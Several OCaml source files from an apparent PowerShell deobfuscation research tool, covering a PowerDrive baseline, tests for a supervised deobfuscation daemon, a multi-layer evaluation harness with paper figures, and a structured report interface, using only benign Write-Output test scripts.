(* 'abc' + 'def'  →  'abcdef'  (repeatedly) *)
let concat_re = lazy (Regexen.Regex.compile {|'([^']*)'\s*\+\s*'([^']*)'|})

let merge_concats script =
  let re = Lazy.force concat_re in
  let rec fix s iters =
    if iters = 0 then s
    else
      let s' = Regexen.Regex.replace re ~template:"'$1$2'" s in
      if String.equal s' s then s else fix s' (iters - 1)
  in
  fix script 64

let collapse_lines script =
  (* PowerDrive's one-line normalisation: newlines become spaces, with no
     statement separator inserted *)
  String.map (fun c -> if c = '\n' || c = '\r' then ' ' else c) script

let apply_rules script =
  script
  |> Regexen.Regex.replace (Lazy.force tick_re) ~template:""
  |> merge_concats
  |> collapse_lines

let deobfuscate script =
  let cleaned = apply_rules script in
  (* single-layer overriding *)
  let outcome = Override.run_with_override cleaned in
  let result =
    match outcome.Override.captured with
    | [] -> cleaned
    | payloads -> merge_concats (String.concat " " payloads)
  in
  { Tool.result; simulated_seconds = Tool.simulated_cost outcome.Override.events }

let tool = { Tool.name = "PowerDrive"; deobfuscate }
