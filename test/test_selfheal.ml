(* Tests for the self-healing service layer: the wedged-worker watchdog
   (victim answered, daemon keeps serving), respawn backoff, the adaptive
   rule quarantine breaker, memory-pressure shedding, OOM containment in
   piece recovery, and jobs-count byte-identity with supervision on. *)

module Serve = Deobf.Serve
module Jsonl = Deobf.Jsonl
module Chaos = Pscommon.Chaos
module Guard = Pscommon.Guard
module Memwatch = Pscommon.Memwatch
module T = Pscommon.Telemetry
module Q = Deobf.Quarantine

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

let with_chaos cfg f =
  Chaos.set (Some cfg);
  Fun.protect ~finally:(fun () -> Chaos.set None) f

let with_temp_dir name f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "selfheal-%s-%d" name (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect
    ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let with_server name cfg_of f =
  with_temp_dir name @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  match Serve.start (cfg_of (Serve.Unix_sock sock)) with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let code =
        Fun.protect
          ~finally:(fun () -> Serve.stop server)
          (fun () -> f sock server)
        |> fun () -> Serve.wait server
      in
      check_i "graceful drain exits 0" 0 code

let connect path =
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Unix.connect fd (Unix.ADDR_UNIX path);
  fd

let send_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then go (off + Unix.write_substring fd s off (n - off))
  in
  go 0

exception Closed

let read_lines ?(deadline_s = 60.0) fd n =
  let deadline = Unix.gettimeofday () +. deadline_s in
  let buf = Buffer.create 4096 in
  let bytes = Bytes.create 65536 in
  let lines () =
    List.filter
      (fun l -> l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  (try
     while List.length (lines ()) < n && Unix.gettimeofday () < deadline do
       match Unix.select [ fd ] [] [] 0.2 with
       | [], _, _ -> ()
       | _ -> (
           match Unix.read fd bytes 0 (Bytes.length bytes) with
           | 0 -> raise Closed
           | r -> Buffer.add_subbytes buf bytes 0 r
           | exception Unix.Unix_error _ -> raise Closed)
     done
   with Closed -> ());
  lines ()

let request ?id ?op ?script ?timeout_s () =
  let field k v = Printf.sprintf "\"%s\": %s" k v in
  let fields =
    List.filter_map Fun.id
      [
        Option.map (fun i -> field "id" (Deobf.Report.json_string i)) id;
        Option.map (fun o -> field "op" (Deobf.Report.json_string o)) op;
        Option.map
          (fun s -> field "script" (Deobf.Report.json_string s))
          script;
        Option.map
          (fun t -> field "timeout_s" (Printf.sprintf "%g" t))
          timeout_s;
      ]
  in
  "{" ^ String.concat ", " fields ^ "}\n"

let response_for lines id =
  match
    List.find_opt (fun l -> Jsonl.string_field l "id" = Some id) lines
  with
  | Some l -> l
  | None ->
      Alcotest.failf "no response for id %s in %d line(s)" id
        (List.length lines)

let status_of line =
  Option.value ~default:"?" (Jsonl.string_field line "status")

let piece_script = "$x = 'he' + 'llo'; Invoke-Expression ('Write-Output ' + $x)"

let counter name = T.Metrics.counter_value (T.Metrics.counter name)

(* ---------- watchdog: wedged-worker preemption ---------- *)

let test_wedged_worker_preempted () =
  (* serve.wedge at rate 1.0 spins the worker in a checkpoint-free loop
     past its deadline: the watchdog must answer the victim with a
     structured wedged error, replace the worker, and the daemon must
     answer the next request normally *)
  let wedged_before = counter "pool.service.wedged" in
  with_server "wedge"
    (fun bind ->
      { (Serve.default_config bind) with
        Serve.jobs = 1;
        default_timeout_s = 0.3;
        grace_s = 0.2 })
    (fun sock _server ->
      Chaos.set
        (Some
           { Chaos.seed = 5; rate = 0.0; site_rates = [ ("serve.wedge", 1.0) ] });
      let fd = connect sock in
      Fun.protect
        ~finally:(fun () ->
          Chaos.set None;
          Unix.close fd)
      @@ fun () ->
      send_all fd (request ~id:"victim" ~script:piece_script ());
      let lines = read_lines fd 1 in
      let v = response_for lines "victim" in
      check_s "victim answered with a structured error" "error" (status_of v);
      check_s "error kind is wedged" "wedged"
        (Option.value ~default:"?" (Jsonl.string_field v "kind"));
      check_b "wedge counted" true
        (counter "pool.service.wedged" > wedged_before);
      (* chaos off: the replacement worker serves the next request *)
      Chaos.set None;
      send_all fd (request ~id:"next" ~script:piece_script ());
      let lines = read_lines fd 1 in
      check_s "daemon serves after preemption" "ok"
        (status_of (response_for lines "next")))

(* ---------- respawn backoff schedule ---------- *)

let test_respawn_backoff_monotone () =
  let bo = Pscommon.Pool.Service.respawn_backoff in
  Alcotest.(check (float 1e-9)) "no failures, no delay" 0.0 (bo 0);
  Alcotest.(check (float 1e-9)) "first failure" 0.05 (bo 1);
  Alcotest.(check (float 1e-9)) "second failure doubles" 0.1 (bo 2);
  for n = 1 to 12 do
    check_b
      (Printf.sprintf "monotone at %d" n)
      true
      (bo (n + 1) >= bo n)
  done;
  Alcotest.(check (float 1e-9)) "capped" 5.0 (bo 20)

(* ---------- quarantine breaker ---------- *)

let test_quarantine_trips_and_readmits () =
  Q.reset ();
  Q.set_enabled true;
  Q.configure ~k:2 ~window_s:60.0 ~cooldown_s:0.05 ();
  Fun.protect
    ~finally:(fun () ->
      Q.set_enabled false;
      Q.reset ();
      Q.configure ~k:3 ~window_s:300.0 ~cooldown_s:30.0 ())
  @@ fun () ->
  let rule = "recover.piece" in
  (* one request: was the rule admitted, and did verify roll it back? *)
  let request rolled =
    Q.begin_request ();
    let admitted = Q.admits ~phase:"recover" ~kind:"piece" in
    Q.end_request
      ~rolled_rules:(if rolled && admitted then [ rule ] else []);
    admitted
  in
  check_b "closed breaker admits" true (request true);
  check_b "one rollback below K still admits" true (request true);
  check_i "K rollbacks trip the breaker" 1 (Q.trips rule);
  check_b "open breaker skips the rule" false (request true);
  Alcotest.(check (list (pair string string)))
    "snapshot shows the open rule"
    [ (rule, "open") ]
    (Q.snapshot ());
  (* decisions are per-request-stable: within one request the same rule
     answers the same even as state could change *)
  Q.begin_request ();
  let first = Q.admits ~phase:"recover" ~kind:"piece" in
  let second = Q.admits ~phase:"recover" ~kind:"piece" in
  Q.end_request ~rolled_rules:[];
  check_b "decision cached within the request" true (first = second);
  (* cooldown elapses: exactly one probe re-admits, a clean verdict
     closes the breaker — the rule earned its way back *)
  Unix.sleepf 0.08;
  check_b "half-open probe re-admits" true (request false);
  Alcotest.(check (list (pair string string)))
    "clean probe closes the breaker" [] (Q.snapshot ());
  check_b "closed again after re-admission" true (request false);
  (* re-trip, then fail the probe: the breaker re-opens with a doubled
     cooldown instead of flapping *)
  ignore (request true);
  ignore (request true);
  check_i "re-tripped" 2 (Q.trips rule);
  Unix.sleepf 0.08;
  check_b "probe re-admits the still-bad rule" true (request true);
  check_b "failed probe re-opens" false (request false)

let test_quarantine_disabled_admits_everything () =
  Q.reset ();
  check_b "disabled admits without a request scope" true
    (Q.admits ~phase:"recover" ~kind:"piece");
  Q.begin_request ();
  check_b "disabled admits inside a request scope" true
    (Q.admits ~phase:"engine" ~kind:"finalize");
  Q.end_request ~rolled_rules:[ "recover.piece"; "recover.piece" ];
  Alcotest.(check (list (pair string string)))
    "disabled records nothing" [] (Q.snapshot ())

(* ---------- memory-pressure governor ---------- *)

let test_memory_shed_carries_reason () =
  with_server "mem"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      Fun.protect ~finally:(fun () -> Memwatch.set_override None)
      @@ fun () ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      Memwatch.set_override (Some Memwatch.Soft);
      send_all fd (request ~id:"m1" ~script:piece_script ());
      send_all fd (request ~id:"h" ~op:"health" ());
      let lines = read_lines fd 2 in
      let m1 = response_for lines "m1" in
      check_s "pressured request shed" "overloaded" (status_of m1);
      check_s "shed carries the memory reason" "memory"
        (Option.value ~default:"?" (Jsonl.string_field m1 "reason"));
      check_b "retry hint present" true
        (Jsonl.int_field m1 "retry_after_ms" <> None);
      check_s "control ops unaffected by pressure" "ok"
        (status_of (response_for lines "h"));
      (* pressure relieved: the same request is admitted again *)
      Memwatch.set_override None;
      send_all fd (request ~id:"m2" ~script:piece_script ());
      let lines = read_lines fd 1 in
      check_s "admitted after pressure clears" "ok"
        (status_of (response_for lines "m2")))

(* ---------- OOM containment in piece recovery ---------- *)

let test_injected_oom_contained () =
  (* the taxonomy route: the chaos OOM fault is Guard's dedicated
     injected-OOM exception, classified as a structured out-of-memory
     failure — never the runtime's preallocated Out_of_memory *)
  (match Guard.classify_exn Guard.Injected_oom with
  | Guard.Oom -> ()
  | f ->
      Alcotest.failf "Injected_oom classified as %s" (Guard.failure_label f));
  (match Guard.protect (fun () -> raise Guard.Injected_oom) with
  | Error f -> check_s "protect yields out-of-memory" "out-of-memory" (Guard.failure_label f)
  | Ok () -> Alcotest.fail "injected OOM vanished");
  (* end-to-end: recover.piece chaos at rate 1.0 faults every piece
     execution (one of the four taxonomy faults per draw, OOM included);
     every run must come back structured — output produced, pieces
     attempted but none recovered from a faulted execution, no exception
     escaping, no dead worker *)
  with_chaos
    { Chaos.seed = 5; rate = 0.0; site_rates = [ ("recover.piece", 1.0) ] }
  @@ fun () ->
  for i = 0 to 7 do
    Chaos.with_scope (Printf.sprintf "oom-%d" i) @@ fun () ->
    let o, out =
      Deobf.Batch.run_source ~verify:false ~timeout_s:10.0 ~name:"oom"
        piece_script
    in
    check_b "an output is always produced" true (String.length out > 0);
    check_b "pieces were attempted" true
      (o.Deobf.Batch.stats.Deobf.Recover.pieces_attempted > 0);
    check_i "no faulted piece was folded in" 0
      o.Deobf.Batch.stats.Deobf.Recover.pieces_recovered
  done

(* ---------- jobs-count byte-identity under supervision ---------- *)

let test_jobs_byte_identity_supervised () =
  let scripts =
    [
      piece_script;
      "Write-Output ('a'+'b'+'c')";
      "$v = 'x'; Write-Output $v";
      "Invoke-Expression ('Write-Output ' + ('4'+'2'))";
    ]
  in
  let outputs jobs =
    let result = ref [] in
    with_server
      (Printf.sprintf "ident%d" jobs)
      (fun bind ->
        { (Serve.default_config bind) with
          Serve.jobs;
          default_timeout_s = 30.0;
          grace_s = 5.0 })
      (fun sock _server ->
        let fd = connect sock in
        Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
        List.iteri
          (fun i s ->
            send_all fd
              (request ~id:(Printf.sprintf "s%d" i) ~script:s ()))
          scripts;
        let lines = read_lines fd (List.length scripts) in
        result :=
          List.mapi
            (fun i _ ->
              let r = response_for lines (Printf.sprintf "s%d" i) in
              check_s "answered ok" "ok" (status_of r);
              Option.value ~default:"" (Jsonl.string_field r "output"))
            scripts);
    !result
  in
  let seq = outputs 1 and par = outputs 4 in
  List.iteri
    (fun i (a, b) ->
      check_s (Printf.sprintf "script %d byte-identical across jobs" i) a b)
    (List.combine seq par)

(* ---------- client backoff schedule ---------- *)

let test_client_backoff_bounds () =
  let rng = Random.State.make [| 42 |] in
  for attempt = 0 to 12 do
    let v = Deobf.Client.backoff_ms rng ~retry_after_ms:100 ~attempt in
    check_b
      (Printf.sprintf "capped at 30s (attempt %d)" attempt)
      true (v <= 30_000.0);
    check_b (Printf.sprintf "positive (attempt %d)" attempt) true (v > 0.0)
  done;
  (* attempt 0: base * U(0.5, 1.5) *)
  for _ = 1 to 50 do
    let v = Deobf.Client.backoff_ms rng ~retry_after_ms:100 ~attempt:0 in
    check_b "jitter window respected" true (v >= 50.0 && v <= 150.0)
  done

let suite =
  [
    Alcotest.test_case "wedged worker preempted, daemon survives" `Quick
      test_wedged_worker_preempted;
    Alcotest.test_case "respawn backoff monotone and capped" `Quick
      test_respawn_backoff_monotone;
    Alcotest.test_case "quarantine trips and re-admits" `Quick
      test_quarantine_trips_and_readmits;
    Alcotest.test_case "quarantine disabled admits everything" `Quick
      test_quarantine_disabled_admits_everything;
    Alcotest.test_case "memory shed carries reason" `Quick
      test_memory_shed_carries_reason;
    Alcotest.test_case "injected OOM contained as structured failure" `Quick
      test_injected_oom_contained;
    Alcotest.test_case "jobs byte-identity with supervision on" `Quick
      test_jobs_byte_identity_supervised;
    Alcotest.test_case "client backoff bounded and jittered" `Quick
      test_client_backoff_bounds;
  ]
