test/test_psparse.ml: Alcotest List Option Printf Psast Pscommon Pseval Psparse Psvalue QCheck QCheck_alcotest String
