(** Table III — ability to handle multiple layers of obfuscation.

    Twelve samples wrapped in 2–4 stacked L3 layers (the paper found 12
    multi-layer samples among its 100).  A tool handles a sample when its
    output exposes every key indicator of the innermost clean script. *)

type row = { tool : string; handled : int; proportion : float }

type result = { sample_count : int; rows : row list }

let run ?(seed = 2023) ?(count = 12) ?(tools = Baselines.All_tools.all) () =
  let samples =
    Corpus.Generator.generate_multilayer ~seed ~count ~min_depth:2 ~max_depth:4
  in
  let grounds =
    List.map (fun s -> Keyinfo.extract s.Corpus.Generator.clean) samples
  in
  let rows =
    List.map
      (fun tool ->
        let handled =
          List.fold_left2
            (fun acc sample ground ->
              let out =
                tool.Baselines.Tool.deobfuscate sample.Corpus.Generator.obfuscated
              in
              let info = Keyinfo.extract out.Baselines.Tool.result in
              let got = Keyinfo.intersection ~ground_truth:ground info in
              if Keyinfo.count got >= Keyinfo.count ground && Keyinfo.count ground > 0
              then acc + 1
              else acc)
            0 samples grounds
        in
        {
          tool = tool.Baselines.Tool.name;
          handled;
          proportion = 100.0 *. float_of_int handled /. float_of_int count;
        })
      tools
  in
  { sample_count = count; rows }

let paper_numbers =
  [ ("PSDecode", "2 (16.7%)"); ("PowerDrive", "1 (8.3%)");
    ("PowerDecode", "8 (66.7%)"); ("Li et al.", "0 (0%)");
    ("Invoke-Deobfuscation", "12 (100%)") ]

let print result =
  Printf.printf "Table III: multi-layer handling (%d samples)\n" result.sample_count;
  Printf.printf "  %-22s %9s %12s %16s\n" "Tool" "#Samples" "Proportion" "(paper)";
  List.iter
    (fun r ->
      let paper =
        match List.assoc_opt r.tool paper_numbers with Some p -> p | None -> "-"
      in
      Printf.printf "  %-22s %9d %11.1f%% %16s\n" r.tool r.handled r.proportion paper)
    result.rows
