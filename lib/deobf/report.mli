(** Structured analysis reports.

    One call bundles what an analyst pipeline consumes: the deobfuscated
    script, recovery statistics, obfuscation scores before/after with the
    detected techniques, run profiling (wall time, per-phase milliseconds,
    a {!Pscommon.Telemetry.Metrics} snapshot) and the key indicators of
    the result.  {!to_json} renders it without external dependencies and
    carries the same observability fields as the batch reports. *)

type t = {
  output : string;
  changed : bool;
  score_before : int;
  score_after : int;
  techniques_before : string list;
  techniques_after : string list;
  pieces_recovered : int;
  variables_substituted : int;
  layers_unwrapped : int;
  pieces_attempted : int;
  pieces_blocked : int;
  cache_hits : int;  (** piece-cache hits during recovery *)
  iterations : int;  (** recovery passes actually run *)
  wall_ms : float;  (** wall time of the whole analysis *)
  phase_ms : (string * float) list;
      (** wall milliseconds summed per phase, unique keys
          (see {!Engine.guarded}) *)
  metrics : Pscommon.Telemetry.Metrics.snapshot;
      (** process metrics captured right after the run *)
  regions_total : int;
      (** partial-parse recovery segments (see {!Engine.guarded}); 0 when
          the input parsed whole *)
  regions_recovered : int;
  urls : string list;
  ips : string list;
  ps1_files : string list;
  powershell_commands : string list;
  verify : Verify.outcome option;
      (** semantic-equivalence verdict when [analyze ~verify:true]; the
          report's [output] is the verified (possibly rolled-back) text *)
}

val analyze : ?options:Engine.options -> ?verify:bool -> string -> t
(** Analyze one script.  Runs the guarded pipeline with no deadline, so
    the report carries the same phase timings and contained-failure
    accounting as a batch run while a single file is still allowed to run
    to completion.  With [verify] (default off), the {!Verify} gate
    executes original and output in the sandbox, rolls back divergent
    rewrites, and the report carries the verdict.  Never raises. *)

val to_json : t -> string
(** Render the report as a JSON object.  Field order is stable: the
    pre-existing fields come first (the CLI contract pins the opening
    lines), the observability fields ([cache_hits], [iterations],
    [wall_ms], [phase_ms], [metrics], [regions_total],
    [regions_recovered]) and the ["verify"] object (or [null]) precede
    ["output"]. *)

val json_escape : string -> string
val json_string : string -> string
